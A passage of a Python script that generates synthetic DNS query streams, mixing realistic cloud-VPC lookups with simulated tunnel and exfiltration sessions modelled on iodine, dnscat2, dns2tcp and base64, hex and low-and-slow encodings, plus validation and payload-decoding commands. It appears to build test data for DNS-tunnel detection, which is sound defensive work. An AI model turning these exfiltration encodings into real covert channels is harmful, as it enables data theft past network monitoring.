                  "dkim", "mail", "mandrill", "smtpapi", "pm", "20230601", "20161025",
                  "mte1", "scph0122", "fm1", "fm2", "krs", "mxvault"]
AI_NAMES_AZ = ["acme-openai-eus", "aoai-prod-swedencentral", "contoso-gpt4o", "ml-aoai-dev",
               "fabrikam-oai-weu", "initech-openai"]
TELEMETRY = ["http-intake.logs.datadoghq.com", "api.datadoghq.com", "trace.agent.datadoghq.com",
             "process.datadoghq.com", "orchestrator.datadoghq.com",
             "intake.profile.datadoghq.com", "instrumentation-telemetry-intake.datadoghq.com",
             "7-52-0-app.agent.datadoghq.com", "7-54-1-app.agent.datadoghq.com",
             "http-intake.logs.datadoghq.eu", "api.us5.datadoghq.com",
             "collector.newrelic.com", "otlp.nr-data.net", "log-api.newrelic.com",
             "infra-api.newrelic.com", "otlp-gateway-prod-us-east-0.grafana.net",
             "prometheus-prod-13-prod-us-east-0.grafana.net", "logs-prod-006.grafana.net",
             "api.honeycomb.io", "api.wandb.ai", "time.aws.com", "ntp.ubuntu.com",
             "0.debian.pool.ntp.org", "time.google.com", "sentry.io",
             "browser-intake-datadoghq.com", "dc.services.visualstudio.com"]


def rid(rng, n, alphabet="abcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(rng.choice(alphabet) for _ in range(n))


def wpick(rng, items, weights):
    return rng.choices(items, weights=weights)[0]


def aws_region(rng):
    return wpick(rng, AWS_REGIONS, AWS_REGION_W)


def vpc_ip(rng):
    return (10, rng.choice([0, 0, 0, 1, 2, 16, 32, 100]), rng.randrange(0, 64), rng.randrange(1, 255))


def public_ip(rng):
    while True:
        a = rng.randrange(1, 224)
        if a not in (10, 127, 169, 172, 192, 100):
            return (a, rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))


def make_aws(rng):
    r = rng.random()
    if r < 0.1:
        return [(rng.choice(AWS_GLOBAL), "host")]
    region = aws_region(rng)
    if r < 0.2:
        return [("%s.dkr.ecr.%s.amazonaws.com" % (rng.choice(ACCOUNTS), region), "host")]
    svc = wpick(rng, AWS_SERVICES, AWS_SERVICE_W)
    if svc == "s3" and rng.random() < 0.3:
        return [("s3.dualstack.%s.amazonaws.com" % region, "host")]
    return [("%s.%s.amazonaws.com" % (svc, region), "host")]


def bucket_name(rng):
    r = rng.random()
    acct = rng.choice(ACCOUNTS)
    region = aws_region(rng)
    if r < 0.55:
        parts = [rng.choice(ORGS), rng.choice(PURPOSES)]
        if rng.random() < 0.7:
            parts.append(rng.choice(ENVS))
        if rng.random() < 0.25:
            parts.append(acct)
        return "-".join(parts)
    if r < 0.65:
        return "sagemaker-%s-%s" % (region, acct)
    if r < 0.72:
        return "aws-glue-assets-%s-%s" % (acct, region)
    if r < 0.79:
        return "cf-templates-%s-%s" % (rid(rng, 12), region)
    if r < 0.85:
        return "aws-cloudtrail-logs-%s-%s" % (acct, rid(rng, 8, "0123456789abcdef"))
    if r < 0.9:
        return "elasticbeanstalk-%s-%s" % (region, acct)
    if r < 0.95:
        return "codepipeline-%s-%s" % (region, rid(rng, 12, "0123456789"))
    return "%s-%s-%s" % (rng.choice(ORGS), rng.choice(WORDS), rid(rng, 6))


def make_s3(rng):
    b = bucket_name(rng)
    r = rng.random()
    if r < 0.45:
        return [("%s.s3.amazonaws.com" % b, "host")]
    if r < 0.9:
        return [("%s.s3.%s.amazonaws.com" % (b, aws_region(rng)), "host")]
    return [("%s.s3.dualstack.%s.amazonaws.com" % (b, aws_region(rng)), "host")]


def make_ec2(rng):
    ip = vpc_ip(rng)
    dashed = "-".join(map(str, ip))
    r = rng.random()
    if r < 0.45:
        return [("ip-%s.ec2.internal" % dashed, "internal")]
    region = rng.choice([x for x in AWS_REGIONS if x != "us-east-1"])
    if r < 0.8:
        return [("ip-%s.%s.compute.internal" % (dashed, region), "internal")]
    return [("i-0%s.%s.compute.internal" % (rid(rng, 16, "0123456789abcdef"), region), "internal")]


def make_hosted(rng):
    region = aws_region(rng)
    short = {"us-east-1": "use1", "us-east-2": "use2", "us-west-2": "usw2",
             "eu-west-1": "euw1", "eu-central-1": "euc1"}.get(region, "apse1")
    name = "%s-%s" % (rng.choice(WORDS), rng.choice(ENVS))
    r = rng.random()
    if r < 0.18:
        return [("internal-%s-alb-%s.%s.elb.amazonaws.com" % (name, rid(rng, 10, "0123456789"), region), "host")]
    if r < 0.28:
        return [("%s-alb-%s.%s.elb.amazonaws.com" % (name, rid(rng, 10, "0123456789"), region), "host")]
    if r < 0.38:
        return [("%s-nlb-%s.elb.%s.amazonaws.com" % (name, rid(rng, 16, "0123456789abcdef"), region), "host")]
    if r < 0.5:
        svc = rng.choice(["sts", "ecr.api", "ecr.dkr", "logs", "ssm", "secretsmanager",
                          "bedrock-runtime", "sqs", "kms", "execute-api"])
        return [("vpce-0%s-%s.%s.%s.vpce.amazonaws.com" % (
            rid(rng, 16, "0123456789abcdef"), rid(rng, 8), svc, region), "host")]
    if r < 0.6:
        return [("%s.%s.%s.eks.amazonaws.com" % (
            rid(rng, 32, "0123456789ABCDEF"), rng.choice(["gr7", "yl4", "sk1"]), region), "host")]
    if r < 0.68:
        return [("%s.execute-api.%s.amazonaws.com" % (rid(rng, 10), region), "host")]
    if r < 0.74:
        return [("%s.lambda-url.%s.on.aws" % (rid(rng, 32), region), "host")]
    if r < 0.84:
        kind = rng.choice(["cluster-", "cluster-ro-", ""])
        return [("%s-db.%s%s.%s.rds.amazonaws.com" % (rng.choice(WORDS), kind, rid(rng, 12), region), "host")]
    if r < 0.9:
        return [("master.%s-redis.%s.%s.cache.amazonaws.com" % (rng.choice(WORDS), rid(rng, 6), short), "host")]
    if r < 0.94:
        return [("vpc-%s-%s.%s.es.amazonaws.com" % (rng.choice(WORDS), rid(rng, 26), region), "host")]
    if r < 0.97:
        return [("b-%d.%s-msk.%s.c%d.kafka.%s.amazonaws.com" % (
            rng.randrange(1, 4), rng.choice(WORDS), rid(rng, 6), rng.randrange(1, 25), region), "host")]
    return [("%s-ats.iot.%s.amazonaws.com" % (rid(rng, 14), region), "host")]


def make_azure(rng):
    region = rng.choice(AZ_REGIONS)
    org = rng.choice(ORGS)
    r = rng.random()
    if r < 0.12:
        return [(rng.choice(["login.microsoftonline.com", "management.azure.com",
                             "graph.microsoft.com", "login.windows.net", "sts.windows.net",
                             "aadcdn.msftauth.net", "global.handler.control.monitor.azure.com"]),
                 "host")]
    if r < 0.4:
        acct = rng.choice([org + rng.choice(["ml", "data", "logs", "st"]) + rng.choice(ENVS),
                           "st" + rid(rng, 13), org + "sa" + rid(rng, 4, "0123456789")])[:24]
        svc = wpick(rng, ["blob", "queue", "table", "file", "dfs"], [60, 15, 8, 7, 10])
        return [("%s.%s.core.windows.net" % (acct, svc), "host")]
    if r < 0.5:
        return [("kv-%s-%s-%s.vault.azure.net" % (org, rng.choice(ENVS), region[:3]), "host")]
    if r < 0.6:
        reg = org + rng.choice(["acr", "registry", "cr"]) + rng.choice(["", "prod", "dev"])
        if rng.random() < 0.4:
            return [("%s.%s.data.azurecr.io" % (reg, region), "host")]
        return [("%s.azurecr.io" % reg, "host")]
    if r < 0.68:
        return [("%s-%s-sb.servicebus.windows.net" % (org, rng.choice(ENVS)), "host")]
    if r < 0.74:
        return [("%s-aks-dns-%s.hcp.%s.azmk8s.io" % (org, rid(rng, 8, "0123456789abcdef"), region), "host")]
    if r < 0.8:
        return [("%s-%s.trafficmanager.net" % (org, rng.choice(WORDS)), "host")]
    if r < 0.86:
        return [("%s-%s-%s.azurewebsites.net" % (org, rng.choice(WORDS), rng.choice(ENVS)), "host")]
    if r < 0.9:
        return [("%s-%s.z01.azurefd.net" % (rng.choice(WORDS), rid(rng, 16, "abcdefghijklmnopqrstuvwxyz0123456789")), "host")]
    if r < 0.95:
        g = rid(rng, 32, "0123456789abcdef")
        guid = "%s-%s-%s-%s-%s" % (g[:8], g[8:12], g[12:16], g[16:20], g[20:])
        return [("%s.ods.opinsights.azure.com" % guid, "host")]
    return [("%s-%d.in.applicationinsights.azure.com" % (region, rng.randrange(0, 12)), "host")]


def make_gcp(rng):
    region = rng.choice(GCP_REGIONS)
    r = rng.random()
    if r < 0.55:
        api = rng.choice(["storage", "oauth2", "www", "compute", "logging", "monitoring",
                          "pubsub", "cloudtrace", "secretmanager", "container",
                          "artifactregistry", "iamcredentials", "sts", "cloudresourcemanager",
                          "serviceusage", "dataflow", "spanner", "firestore", "cloudkms",
                          "run", "clouderrorreporting", "telemetry"])
        return [("%s.googleapis.com" % api, "host")]
    if r < 0.65:
        return [(rng.choice(["metadata.google.internal", "accounts.google.com",
                             "gcr.io", "us.gcr.io", "eu.gcr.io", "mirror.gcr.io"]), "host")]
    if r < 0.8:
        return [("%s-%s.pkg.dev" % (region, rng.choice(["docker", "python", "npm", "maven"])), "host")]
    if r < 0.9:
        return [("%s-%s-%s.a.run.app" % (rng.choice(WORDS), rid(rng, 10), rng.choice(["uc", "ue", "ew", "an"])), "host")]
    return [("%s-%s.appspot.com" % (rng.choice(ORGS), rng.choice(ENVS)), "host")]


def make_cdn(rng):
    r = rng.random()
    if r < 0.35:
        return [("d%s.cloudfront.net" % rid(rng, 13), "host")]
    if r < 0.5:
        return [("e%d.%s.akamaiedge.net" % (rng.randrange(1000, 99999), rng.choice(["a", "b", "dscb", "dsca", "dscx"])), "host")]
    if r < 0.58:
        return [("a%d.dsc%s.akamai.net" % (rng.randrange(100, 9999), rng.choice("abcdefg")), "host")]
    if r < 0.68:
        return [("%s.%s.%s" % (rng.choice(["www", "static", "cdn", "assets", "img"]),
                               rng.choice(ORGS) + rng.choice([".com", ".io", "-cdn.net"]),
                               rng.choice(["edgekey.net", "edgesuite.net"])), "host")]
    if r < 0.85:
        return [(rng.choice(["dualstack.python.map.fastly.net", "n.sni.global.fastly.net",
                             "j.sni.global.fastly.net", "github.global.ssl.fastly.net",
                             "dualstack.k.sni.global.fastly.net", "cdn.jsdelivr.net",
                             "cdnjs.cloudflare.com", "fonts.gstatic.com", "fonts.googleapis.com",
                             "www.gstatic.com", "ajax.googleapis.com", "unpkg.com"]), "host")]
    return [("%s-%s.azureedge.net" % (rng.choice(ORGS), rng.choice(WORDS)), "host")]


def make_mirror(rng):
    return [(rng.choice(MIRRORS), "host")]


def make_k8s(rng):
    r = rng.random()
    ns = rng.choice(K8S_NAMESPACES)
    if r < 0.5:
        if ns in K8S_SERVICES and rng.random() < 0.7:
            svc = rng.choice(K8S_SERVICES[ns])
        else:
            svc = "%s-%s" % (rng.choice(WORDS), rng.choice(["svc", "api", "grpc", "http", "v2"]))
        if rng.random() < 0.05:
            return [("kubernetes.default.svc.cluster.local", "internal")]
        return [("%s.%s.svc.cluster.local" % (svc, ns), "internal")]
    if r < 0.7:
        # ndots:5: an external name is tried under every search domain first.
        ext = rng.choice(MIRRORS + AWS_GLOBAL + ["api.openai.com", "sts.us-east-1.amazonaws.com"])
        vpc = rng.choice(["ec2.internal", "us-west-2.compute.internal",
                          "c.%s-prod.internal" % rng.choice(ORGS), "google.internal"])
        return [("%s.%s.svc.cluster.local" % (ext, ns), "internal"),
                ("%s.svc.cluster.local" % ext, "internal"),
                ("%s.cluster.local" % ext, "internal"),
                ("%s.%s" % (ext, vpc), "internal")]
    if r < 0.8:
        ip = vpc_ip(rng)
        return [("%s.%s.pod.cluster.local" % ("-".join(map(str, ip)), ns), "internal")]
    if r < 0.92:
        sts, svc, sns, n = rng.choice(K8S_STATEFUL)
        return [("%s-%d.%s.%s.svc.cluster.local" % (sts, rng.randrange(n), svc, sns), "internal")]
    port, proto = rng.choice(K8S_PORTS)
    svc = rng.choice(K8S_SERVICES.get(ns, ["%s-svc" % rng.choice(WORDS)]))
    return [("_%s._%s.%s.%s.svc.cluster.local" % (port, proto, svc, ns), "srv")]


def make_reverse(rng):
    if rng.random() < 0.8:
        ip = vpc_ip(rng) if rng.random() < 0.7 else public_ip(rng)
        return [("%d.%d.%d.%d.in-addr.arpa" % tuple(reversed(ip)), "ptr")]
    prefix = rng.choice(["2600:1f18:%04x:%04x" % (rng.randrange(0x10000), rng.randrange(0x10000)),
                         "2a05:d018:%04x:%04x" % (rng.randrange(0x10000), rng.randrange(0x10000)),
                         "fd00:ec2:0:%04x" % rng.randrange(0x10000)])
    nib = "".join("%04x" % int(x, 16) for x in prefix.split(":")) + rid(rng, 16, "0123456789abcdef")
    return [(".".join(reversed(nib)) + ".ip6.arpa", "ptr")]


def make_mailauth(rng):
    dom = rng.choice(MAIL_DOMAINS)
    r = rng.random()
    if r < 0.25:
        return [("%s._domainkey.%s" % (rng.choice(DKIM_SELECTORS), dom), "txt")]
    if r < 0.35:
        # Amazon SES Easy DKIM: 32-character tokens.
        return [("%s._domainkey.%s" % (rid(rng, 32, "abcdefghijklmnopqrstuvwxyz234567"), dom), "dkim")]
    if r < 0.5:
        return [("_dmarc.%s" % dom, "txt")]
    if r < 0.58:
        return [("_mta-sts.%s" % dom, "txt"), ("mta-sts.%s" % dom, "internal")]
    if r < 0.62:
        return [("_smtp._tls.%s" % dom, "txt")]
    if r < 0.78:
        host = rng.choice(["", "www.", "api.", "%s." % rng.choice(WORDS), "%s-%s." % (rng.choice(WORDS), rng.choice(ENVS))])
        return [("_acme-challenge.%s%s" % (host, dom), "txt")]
    if r < 0.9:
        return [(dom, "mx")]
    return [(rng.choice(["_spf.google.com", "spf.protection.outlook.com", "_netblocks.google.com",
                         "amazonses.com", "sendgrid.net", "_spf.salesforce.com"]), "txt")]


def make_dnsbl(rng):
    if rng.random() < 0.85:
        ip = public_ip(rng)
        zone = rng.choice(["zen.spamhaus.org", "zen.spamhaus.org", "bl.spamcop.net",
                           "b.barracudacentral.org", "dnsbl.sorbs.net", "psbl.surriel.com"])
        return [("%d.%d.%d.%d.%s" % (tuple(reversed(ip)) + (zone,)), "dnsbl")]
    dom = "%s%s.%s" % (rng.choice(WORDS), rng.choice(["", "-mail", "-news", "shop"]), rng.choice(["com", "net", "io", "co"]))
    return [("%s.dbl.spamhaus.org" % dom, "dnsbl")]


def make_ai(rng):
    r = rng.random()
    if r < 0.4:
        region = wpick(rng, ["us-east-1", "us-west-2", "eu-central-1", "ap-northeast-1", "eu-west-1"], [5, 4, 2, 1, 1])
        svc = wpick(rng, ["bedrock-runtime", "bedrock", "bedrock-agent-runtime", "runtime.sagemaker"], [8, 2, 1, 2])
        return [("%s.%s.amazonaws.com" % (svc, region), "host")]
    if r < 0.65:
        n = rng.choice(AI_NAMES_AZ)
        return [("%s.%s" % (n, rng.choice(["openai.azure.com", "openai.azure.com",
                                           "cognitiveservices.azure.com", "services.ai.azure.com",
                                           "search.windows.net"])), "host")]
    if r < 0.85:
        if rng.random() < 0.8:
            return [("%s-aiplatform.googleapis.com" % rng.choice(GCP_REGIONS), "host")]
        return [(rng.choice(["aiplatform.googleapis.com", "generativelanguage.googleapis.com"]), "host")]
    return [(rng.choice(["api.openai.com", "api.anthropic.com", "api.mistral.ai",
                         "api-inference.huggingface.co", "api.cohere.com"]), "host")]


def make_telemetry(rng):
    if rng.random() < 0.3:
        org = rng.randrange(100000, 4500000)
        return [("o%d.ingest.%ssentry.io" % (org, rng.choice(["", "us.", "de."])), "host")]
    return [(rng.choice(TELEMETRY), "host")]


# name: (share %, head size, chance of a fresh name, generator)
CATEGORIES = {
    "aws": (18, 80, 0.02, make_aws),
    "k8s": (15, 60, 0.25, make_k8s),
    "mirrors": (10, 45, 0.0, make_mirror),
    "azure": (8, 40, 0.05, make_azure),
    "gcp": (7, 35, 0.05, make_gcp),
    "s3": (6, 25, 0.15, make_s3),
    "cdn": (6, 30, 0.2, make_cdn),
    "ai": (6, 20, 0.02, make_ai),
    "telemetry": (6, 25, 0.03, make_telemetry),
    "reverse": (5, 20, 0.6, make_reverse),
    "ec2": (4, 20, 0.35, make_ec2),
    "hosted": (4, 25, 0.1, make_hosted),
    "mailauth": (3, 25, 0.3, make_mailauth),
    "dnsbl": (2, 10, 0.7, make_dnsbl),
}


def types_for(rng, profile):
    r = rng.random()
    if profile == "host":
        if r < 0.45:
            return ["A", "AAAA"]
        if r < 0.57:
            return ["A", "AAAA", "HTTPS"]
        if r < 0.85:
            return ["A"]
        if r < 0.95:
            return ["AAAA"]
        return ["HTTPS"]
    if profile == "internal":
        if r < 0.5:
            return ["A", "AAAA"]
        return ["A"] if r < 0.95 else ["AAAA"]
    if profile == "dnsbl":
        return ["A"] if r < 0.8 else ["A", "TXT"]
    if profile == "mx":
        return ["MX"] if r < 0.6 else (["TXT"] if r < 0.85 else ["A"])
    if profile == "dkim":
        return ["TXT"] if r < 0.7 else ["CNAME"]
    return {"ptr": ["PTR"], "srv": ["SRV"], "txt": ["TXT"]}[profile]


def checked_lookup(rng, make):
    """A lookup whose names are all legal and none a fake behaviour."""
    for _ in range(100):
        lookup = make(rng)
        if all(usable(n) for n, _ in lookup):
            return lookup
    raise GenError("no usable name from %s" % make.__name__)


def usable(text):
    try:
        n = dns.name.from_text(text)
    except dns.exception.DNSException:
        return False
    return not first_label_reserved(n)


def gen_benign(seed, count, exclude=()):
    rng = random.Random("%s:benign" % seed)
    cats = [c for c in CATEGORIES if c not in exclude]
    if not cats:
        raise GenError("--exclude left no category")
    weights = [CATEGORIES[c][0] for c in cats]
    heads = {}
    for c in cats:
        _, size, _, make = CATEGORIES[c]
        if make is make_mirror:
            pool = [[(m, "host")] for m in MIRRORS]
            rng.shuffle(pool)
        else:
            pool = [checked_lookup(rng, make) for _ in range(size)]
        cum = []
        total = 0.0
        for k in range(len(pool)):
            total += 1.0 / (k + 1) ** 1.1
            cum.append(total)
        heads[c] = (pool, cum)
    out = []
    while len(out) < count:
        c = rng.choices(cats, weights=weights)[0]
        _, _, p_new, make = CATEGORIES[c]
        if rng.random() < p_new:
            lookup = checked_lookup(rng, make)
        else:
            pool, cum = heads[c]
            lookup = rng.choices(pool, cum_weights=cum)[0]
        for name, profile in lookup:
            for t in types_for(rng, profile):
                out.append((name, t, c))
    return out[:count]


# ----- checking and decoding streams -----

def read_stream(path):
    """[(line number, Name, type text)]; raises GenError naming the line."""
    f = sys.stdin if path == "-" else open(path, encoding="latin-1")
    rows = []
    with f:
        for lineno, line in enumerate(f, 1):
            line = line.rstrip("\n")
            if not line.strip():
                continue
            parts = line.split()
            if len(parts) != 2:
                raise GenError("%s:%d: expected NAME TYPE, saw %r" % (path, lineno, line))
            try:
                name = dns.name.from_text(parts[0])
            except dns.exception.DNSException as e:
                raise GenError("%s:%d: %r is not a DNS name: %s" % (path, lineno, parts[0], e))
            try:
                dns.rdatatype.from_text(parts[1])
            except dns.exception.DNSException:
                raise GenError("%s:%d: %r is not a query type" % (path, lineno, parts[1]))
            rows.append((lineno, name, parts[1]))
    return rows


def check_stream(path, meta_path=None):
    rows = read_stream(path)
    problems = []
    longest_label = 0
    longest_wire = 0
    for lineno, name, _ in rows:
        longest_label = max([longest_label] + [len(l) for l in name.labels])
        wire = len(name.to_wire())
        longest_wire = max(longest_wire, wire)
        if any(len(l) > MAX_LABEL for l in name.labels) or wire > 255:
            problems.append("%s:%d: %s exceeds DNS limits" % (path, lineno, name_text(name)))
        if first_label_reserved(name):
            problems.append("%s:%d: %s starts with a fake-upstream behaviour prefix"
                            % (path, lineno, name_text(name)))
    # A name of 255 bytes on the wire is 253 characters before escaping.
    report = {"queries": len(rows),
              "distinct_names": len({name_text(n).lower() for _, n, _ in rows}),
              "longest_label": longest_label, "longest_name_wire": longest_wire,
              "longest_name_chars": max(longest_wire - 2, 0), "types": {}}
    for _, _, t in rows:
        report["types"][t] = report["types"].get(t, 0) + 1
    if meta_path:
        with open(meta_path, encoding="utf-8") as f:
            meta = json.load(f)
        if meta.get("queries") != len(rows):
            problems.append("%s: meta says %s queries, stream has %d"
                            % (meta_path, meta.get("queries"), len(rows)))
        if meta.get("kind") == "tunnel":
            if len(meta["payload"]) != len(rows) or sum(meta["payload"]) != meta["payload_bytes"]:
                problems.append("%s: per-query payload does not add up to %d bytes"
                                % (meta_path, meta["payload_bytes"]))
        elif len(meta.get("category", [])) != len(rows):
            problems.append("%s: %d categories for %d queries"
                            % (meta_path, len(meta.get("category", [])), len(rows)))
    return report, problems


def decode_stream(path, meta):
    rows = read_stream(path)
    domain = absolute(meta["domain"])
    names = []
    for lineno, name, _ in rows:
        if not name.is_subdomain(domain):
            raise GenError("%s:%d: %s is not under %s" % (path, lineno, name_text(name), meta["domain"]))
        labels = list(name.relativize(domain).labels)
        if meta["tool"] == "dns2tcp" and labels[-1] in (b"=auth", b"=connect"):
            continue                # dns2tcp's handshake: no payload
        names.append(labels)
    return DECODERS[meta["tool"]](names, meta)


# ----- the command line -----

def write_lines(path, lines):
    f = sys.stdout if path in (None, "-") else open(path, "w", encoding="latin-1")
    try:
        for line in lines:
            f.write(line + "\n")
    finally:
        if f is not sys.stdout:
            f.close()


def write_json(path, obj):
    tmp = path + ".tmp"
    with open(tmp, "w", encoding="utf-8") as f:
        json.dump(obj, f, separators=(",", ":"))
        f.write("\n")
    os.replace(tmp, path)


def benign_meta(rows, seed, exclude):
    mix = {}
    for _, _, c in rows:
        mix[c] = mix.get(c, 0) + 1
    return {"kind": "benign", "seed": seed, "queries": len(rows),
            "excluded": sorted(exclude), "mix": mix,
            "distinct_names": len({n.lower() for n, _, _ in rows}),
            "category": [c for _, _, c in rows]}


def emit_benign(seed, count, exclude, out, meta_path):
    rows = gen_benign(seed, count, exclude)
    write_lines(out, ("%s %s" % (n, t) for n, t, _ in rows))
    if meta_path:
        write_json(meta_path, benign_meta(rows, seed, exclude))
    return rows


def emit_tunnel(s, seed, out, meta_path):
    write_lines(out, ("%s %s" % (name_text(n), t) for n, t, _, _ in s.queries))
    if meta_path:
        write_json(meta_path, tunnel_meta(s, seed))


# The streams `suite` writes: (file stem, tool, encoding, qtype).
SUITE = [
    ("iodine-base32-null", "iodine", "base32", "NULL"),
    ("iodine-base64-txt", "iodine", "base64", "TXT"),
    ("iodine-base64u-cname", "iodine", "base64u", "CNAME"),
    ("iodine-base128-null", "iodine", "base128", "NULL"),
    ("iodine-base32-mx", "iodine", "base32", "MX"),
    ("dnscat2", "dnscat2", None, None),
    ("dns2tcp", "dns2tcp", None, None),
    ("exfil-base64", "base64", None, None),
    ("exfil-hex", "hex", None, None),
    ("lowslow", "lowslow", None, None),
]


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                formatter_class=argparse.RawDescriptionHelpFormatter,
                                epilog=__doc__.split("\n\n", 1)[1])
    sub = p.add_subparsers(dest="cmd", required=True)

    def common(sp):
        sp.add_argument("--seed", default="1", help="same seed, same stream (default 1)")
        sp.add_argument("--out", help="stream file (default stdout)")
        sp.add_argument("--meta", help="JSON side file: per-query category or payload")

    def payload_opts(sp, domain=DEFAULT_DOMAIN):
        sp.add_argument("--bytes", type=int, default=DEFAULT_BYTES,
                        help="payload size (default %d)" % DEFAULT_BYTES)
        sp.add_argument("--payload", choices=["random", "text"], default="random",
                        help="random bytes, or a CSV export of fake customers")
        sp.add_argument("--payload-file", help="send this file instead")
        sp.add_argument("--domain", default=domain,
                        help="the tunnel's domain (default %s; suite: {n} is the "
                        "stream's number)" % domain)
        sp.add_argument("--polls", type=int, default=DEFAULT_POLLS,
                        help="idle polls after the data (iodine, dnscat2, dns2tcp; default %d)"
                        % DEFAULT_POLLS)

    b = sub.add_parser("benign", help="benign cloud-VPC traffic")
    common(b)
    b.add_argument("--count", type=int, default=10000, help="queries (default 10000)")
    b.add_argument("--exclude", default="",
                   help="categories to leave out, comma-separated (%s)" % ",".join(CATEGORIES))

    t = sub.add_parser("tunnel", help="one tunnel or exfiltration session")
    common(t)
    t.add_argument("--tool", required=True, choices=TOOLS)
    t.add_argument("--encoding", help="iodine: base32 (default), base64, base64u, base128")
    t.add_argument("--qtype", help="query type (default: the tool's own)")
    t.add_argument("--labels", type=int, help="base64/hex/lowslow: data labels per query")
    payload_opts(t)

    s = sub.add_parser("suite", help="every standard stream, with meta files, into --dir")
    s.add_argument("--dir", required=True)
    s.add_argument("--seed", default="1")
    s.add_argument("--count", type=int, default=10000, help="benign queries")
    s.add_argument("--exclude", default="", help="benign categories to leave out")
    payload_opts(s, SUITE_DOMAIN)

    c = sub.add_parser("check", help="validate a stream (and its meta)")
    c.add_argument("stream")
    c.add_argument("--meta")

    d = sub.add_parser("decode", help="recover a tunnel stream's payload")
    d.add_argument("stream")
    d.add_argument("--meta", required=True)
    d.add_argument("--out", help="write the payload here")

    args = p.parse_args()
    try:
        if args.cmd in ("benign", "suite"):
            exclude = {x for x in args.exclude.split(",") if x}
            unknown = exclude - set(CATEGORIES)
            if unknown:
                p.error("--exclude: unknown categories %s" % ",".join(sorted(unknown)))
        if args.cmd == "benign":
            emit_benign(args.seed, args.count, exclude, args.out, args.meta)
        elif args.cmd == "tunnel":
            if args.qtype:
                try:
                    args.qtype = dns.rdatatype.to_text(dns.rdatatype.from_text(args.qtype))
                except dns.exception.DNSException:
                    p.error("--qtype %s is not a query type" % args.qtype)
            payload = make_payload(args, args.seed)
            st = gen_tunnel(args.tool, args.seed, payload, args.domain, args.encoding,
                            args.qtype, args.polls, args.labels)
            emit_tunnel(st, args.seed, args.out, args.meta)
        elif args.cmd == "suite":
            os.makedirs(args.dir, exist_ok=True)
            payload = make_payload(args, args.seed)
            emit_benign(args.seed, args.count, exclude, os.path.join(args.dir, "benign.txt"),
                        os.path.join(args.dir, "benign.json"))
            for n, (stem, tool, enc, qtype) in enumerate(SUITE, 1):
                st = gen_tunnel(tool, args.seed, payload, args.domain.format(n=n), enc,
                                qtype, args.polls)
                emit_tunnel(st, args.seed, os.path.join(args.dir, stem + ".txt"),
                            os.path.join(args.dir, stem + ".json"))
        elif args.cmd == "check":
            report, problems = check_stream(args.stream, args.meta)
            print(json.dumps(report, sort_keys=True))
            for pr in problems[:20]:
                print(pr, file=sys.stderr)
            return 1 if problems else 0
        elif args.cmd == "decode":
            with open(args.meta, encoding="utf-8") as f:
                meta = json.load(f)
            payload = decode_stream(args.stream, meta)
            digest = hashlib.sha256(payload).hexdigest()
            if args.out:
                with open(args.out, "wb") as f:
                    f.write(payload)
            ok = digest == meta["payload_sha256"] and len(payload) == meta["payload_bytes"]
            print(json.dumps({"bytes": len(payload), "sha256": digest, "matches_meta": ok}))
            return 0 if ok else 1
    except BrokenPipeError:             # `gen.py ... | head`
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        return 0
    except (GenError, OSError, ValueError, KeyError) as e:
        print("gen.py: %s" % e, file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
